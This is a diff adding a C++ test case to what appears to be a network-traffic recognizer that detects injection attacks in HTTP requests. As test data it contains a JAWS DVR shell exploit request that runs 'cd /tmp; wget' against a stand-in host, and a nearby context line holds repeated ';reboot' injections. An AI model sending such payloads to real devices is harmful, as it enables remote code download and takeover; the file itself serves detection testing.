@@ -46,6 +46,24 @@ TEST(Injections, KnownToAnExploitAreOnlyThoseInItsFields) {
   EXPECT_EQ(recognised(payload).injections.size(), 2U);
 }
 
+TEST(Injections, AreFoundInEveryRequestOfAConnection) {
+  // A search, a body that is shorter or longer than it says, and the exploit behind them.
+  const std::string exploit = "GET /shell?cd+/tmp;wget+http://h/a HTTP/1.1\r\nHost: h\r\n\r\n";
+  for (const std::string& before : {request("GET /"), request("POST /a", "Content-Length: 99\r\n", "a=1"),
+                                    request("POST /a", "Content-Length: 1\r\n", "<s:Body><u:Ask><A>1</A></u:Ask></s:Body>")}) {
+    const Recognition recognition = recognised(before + exploit);
+    EXPECT_EQ(ids_of(recognition), (Ids{"jaws-dvr-shell", "http-command-injection"})) << before;
+    ASSERT_EQ(recognition.injections.size(), 1U);
+    EXPECT_EQ(recognition.injections[0].action, "/shell");
+    EXPECT_EQ((before + exploit).substr(recognition.injections[0].offset, recognition.injections[0].length), "cd+/tmp;wget+http://h/a");
+    growing_tags(before + exploit);
+  }
+  // More requests than are told apart.
+  std::string many;
+  for (int i = 0; i < 100; ++i) many += request("GET /x?a=1");
+  EXPECT_EQ(tags_of(many), Ids());
+}
+
 TEST(Injections, AreBounded) {
   std::string query;
   for (int i = 0; i < 100; ++i) query += "a" + std::to_string(i) + "=;reboot&";
